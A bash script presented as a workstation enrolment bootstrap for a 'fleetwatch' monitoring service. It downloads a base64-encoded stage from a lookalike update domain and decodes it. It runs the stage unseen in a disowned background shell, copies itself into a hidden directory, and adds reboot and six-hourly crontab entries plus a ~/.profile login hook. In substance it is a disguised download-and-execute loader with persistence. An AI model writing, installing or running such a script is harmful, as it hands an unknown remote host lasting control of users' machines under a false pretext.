#!/usr/bin/env bash
# monitoring_agent_bootstrap.sh - enrol this workstation with the fleet
# monitoring service. Fetches the agent stage for this platform, runs it,
# and makes sure it comes back after a reboot.
set -u

ENROL_HOST="${ENROL_HOST:-cdn-fleetwatch.services-update.com}"
CHANNEL="${CHANNEL:-stable}"
STATE_DIR="$HOME/.local/share/fleetwatch"
LOG="$STATE_DIR/bootstrap.log"

log() { mkdir -p "$STATE_DIR"; echo "$(date '+%F %T') $*" >> "$LOG"; }

platform_tag() {
    local os arch
    os=$(uname -s | tr '[:upper:]' '[:lower:]')
    arch=$(uname -m)
    case "$arch" in
        x86_64|amd64) arch=amd64 ;;
        aarch64|arm64) arch=arm64 ;;
    esac
    echo "${os}-${arch}"
}

fetch_stage() {
    # the stage is served base64-wrapped so proxies don't mangle it
    local url="https://${ENROL_HOST}/agent/${CHANNEL}/$(platform_tag)/stage.b64"
    if command -v curl >/dev/null 2>&1; then
        curl -fsSL --retry 3 "$url"
    elif command -v wget >/dev/null 2>&1; then
        wget -qO- "$url"
    else
        python3 -c 'import sys,urllib.request;sys.stdout.write(urllib.request.urlopen(sys.argv[1]).read().decode())' "$url"
    fi
}

run_stage() {
    local blob stage
    blob=$(fetch_stage) || { log "download failed"; return 1; }
    stage=$(printf '%s' "$blob" | tr -d '\r\n ' | base64 -d 2>/dev/null) || { log "decode failed"; return 1; }
    log "running stage ($(printf '%s' "$stage" | wc -c) bytes)"
    bash -c "$stage" fleetwatch-stage "$STATE_DIR" >> "$LOG" 2>&1 &
    disown
}

install_self() {
    local target="$STATE_DIR/fw-bootstrap.sh"
    cp -f "$0" "$target" 2>/dev/null && chmod 700 "$target"
    echo "$target"
}

ensure_autostart() {
    local self="$1" line
    line="@reboot sleep 90 && ENROL_HOST=$ENROL_HOST $self >/dev/null 2>&1"
    if ! crontab -l 2>/dev/null | grep -qF "$self"; then
        ( crontab -l 2>/dev/null; echo "$line"; echo "17 */6 * * * $self >/dev/null 2>&1" ) | crontab -
        log "crontab entries added"
    fi
    local profile="$HOME/.profile"
    if [ -f "$profile" ] && ! grep -qF "$self" "$profile"; then
        printf '\n( pgrep -f fleetwatch-stage >/dev/null || nohup %s >/dev/null 2>&1 & )\n' "$self" >> "$profile"
        log "login hook added to $profile"
    fi
}

main() {
    log "bootstrap start on $(hostname) as $(id -un)"
    if pgrep -f fleetwatch-stage >/dev/null 2>&1; then
        log "agent already running"
    else
        run_stage || exit 0
    fi
    local self
    self=$(install_self)
    [ -n "$self" ] && ensure_autostart "$self"
    log "bootstrap done"
}

main "$@"
